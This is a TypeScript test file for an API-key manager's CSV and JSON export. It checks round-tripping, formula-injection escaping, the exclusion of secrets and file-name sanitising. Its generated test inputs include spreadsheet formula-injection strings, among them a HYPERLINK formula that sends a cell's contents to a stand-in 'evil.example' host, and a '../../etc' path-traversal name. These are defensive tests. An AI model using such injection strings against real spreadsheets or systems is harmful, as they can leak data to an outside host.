/** The exported key list: a real CSV parser and JSON read back what went in, and no value of a key is ever among it. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { exportFileName } from "../../../src-main/export/export-file-name.ts";
import { csvColumns, keyListCsv } from "../../../src-main/export/key-list-csv.ts";
import { type ExportedList, KeyListFile, keyListJson } from "../../../src-main/export/key-list-json.ts";
import type { ApiKey } from "../../../src-preload/contract/keys.ts";
import { sampleKey } from "../../support/fake-ports.ts";

const asOf = "2026-11-23T10:00:00.000Z";
const list = (keys: ApiKey[]): ExportedList => ({
  asOf,
  server: { name: "Staging", origin: "https://api.example.com" },
  complete: true,
  keys,
});

/** Texts that tables trip over, among others. */
const text = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 64 }),
  fc.constantFrom("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("https://evil.example?"&A1)', "＝1", "－"),
  fc.constantFrom(
    '"',
    '""',
    ",",
    ";",
    "a,b",
    'a"b',
    "a\nb",
    "a\r\nb",
    "",
    " ",
    "'",
    "'=1",
    "NULL",
    "true",
    "1e9",
    "Größe",
  ),
);
const instant = fc
  .date({ min: new Date("2000-01-01"), max: new Date("2100-01-01"), noInvalidDate: true })
  .map((date) => date.toISOString());
const actor = fc.record({ id: text, name: text });
const nil = fc.constant(null);
const apiKey: fc.Arbitrary<ApiKey> = fc.record({
  id: fc.uuid(),
  name: fc.oneof(nil, text),
  start: text,
  last4: fc.oneof(nil, text),
  status: fc.constantFrom("active", "retiring", "revoked"),
  createdAt: instant,
  createdBy: fc.oneof(nil, actor),
  lastUsedAt: fc.oneof(nil, instant),
  expiresAt: fc.oneof(nil, instant),
  revokedAt: fc.oneof(nil, instant),
  revokedBy: fc.oneof(nil, actor),
  revocationReason: fc.oneof(nil, text),
  rotation: fc.oneof(
    nil,
    fc.record({
      replaces: fc.oneof(nil, text),
      replacedBy: fc.oneof(nil, text),
      graceSeconds: fc.oneof(nil, fc.nat()),
      graceEndsAt: fc.oneof(nil, instant),
    }),
  ),
  remembered: fc.boolean(),
});
const keys = fc.array(apiKey, { maxLength: 8 });

/** What stands in a cell: spreadsheets must find no formula at its beginning. */
const cell = (value: string | null | undefined) =>
  /^[=+\-@\t\r＝＋－＠]/.test(value ?? "") ? `'${value}` : (value ?? "");

function expectedRow(key: ApiKey): Record<string, string> {
  return {
    ...{ id: cell(key.id), name: cell(key.name), start: cell(key.start), last4: cell(key.last4), status: key.status },
    ...{ createdAt: key.createdAt, createdBy: cell(key.createdBy?.name), createdById: cell(key.createdBy?.id) },
    ...{ lastUsedAt: key.lastUsedAt ?? "", expiresAt: key.expiresAt ?? "", revokedAt: key.revokedAt ?? "" },
    ...{ revokedBy: cell(key.revokedBy?.name), revokedById: cell(key.revokedBy?.id) },
    revocationReason: cell(key.revocationReason),
    ...{ replaces: cell(key.rotation?.replaces), replacedBy: cell(key.rotation?.replacedBy) },
    ...{ graceEndsAt: key.rotation?.graceEndsAt ?? "", remembered: key.remembered ? "true" : "false" },
  };
}

describe("CSV", () => {
  const read = (csv: string): Record<string, string>[] =>
    parseCsv(csv, { bom: true, columns: true, record_delimiter: "\r\n" });

  test("comes back from a parser as it went in", () => {
    fc.assert(
      fc.property(keys, (given) => {
        expect(read(keyListCsv(given))).toEqual(given.map(expectedRow));
      }),
      { numRuns: 500 },
    );
  });
  test("has no cell that a spreadsheet would run, in whatever way it is quoted", () => {
    fc.assert(
      fc.property(keys, (given) => {
        const cells: string[][] = parseCsv(keyListCsv(given), { bom: true });
        for (const value of cells.flat()) expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
  test("is RFC 4180 letter for letter, with the mark that Excel needs", () => {
    const one = sampleKey({ id: "key_1", name: 'Say "hi", Größe', createdAt: asOf });
    const [heading, row, ...rest] = keyListCsv([one]).split("\r\n");
    expect(heading).toBe(`\uFEFF${csvColumns.join(",")}`);
    expect(row).toMatch(/^key_1,"Say ""hi"", Größe",/);
    expect(rest).toEqual([""]);
  });
  test("of no keys is the heading alone", () => {
    expect(keyListCsv([])).toBe(`\uFEFF${csvColumns.join(",")}\r\n`);
  });
});

describe("JSON", () => {
  test("comes back as it went in", () => {
    fc.assert(
      fc.property(keys, (given) => {
        const file = KeyListFile.parse(JSON.parse(keyListJson(list(given))));
        expect(file).toEqual({ format: "keyrack-key-list", version: 1, ...list(given) });
      }),
    );
  });
  test("is the shape that is documented", () => {
    const page = readFileSync(join(import.meta.dirname, "../../../docs/key-list-export.md"), "utf8");
    const example = JSON.parse(/```json\n([\s\S]*?)```/.exec(page)?.[1] ?? "");
    const { format: _format, version: _version, ...documented } = KeyListFile.parse(example);
    expect(JSON.parse(keyListJson(documented))).toEqual(example);
    for (const column of csvColumns) expect(page).toContain(`\`${column}\``);
  });
});

test("whatever else hangs on a row stays out", () => {
  const canary = "krk_9fK2mWq7Lx0RtBv3NcYe8HsJ5uPzAdGiTfX7Qd";
  const row = Object.assign(sampleKey({ name: "Staging" }), {
    key: canary,
    value: canary,
    token: canary,
    secret: canary,
  });
  const source = Object.assign(list([row]), { token: canary });
  for (const written of [keyListCsv([row]), keyListJson(source)]) {
    expect(written).toContain("Staging");
    expect(written).not.toContain(canary);
  }
});

test.each([
  ["Staging", "keyrack-keys-staging-2026-11-23.csv"],
  ["Zürich & Co. / EU", "keyrack-keys-zurich-co-eu-2026-11-23.csv"],
  ["../../etc", "keyrack-keys-etc-2026-11-23.csv"],
  ["倉庫", "keyrack-keys-2026-11-23.csv"],
])("the file for %s is called %s", (server, name) => {
  expect(exportFileName(server, asOf, "csv")).toBe(name);
});
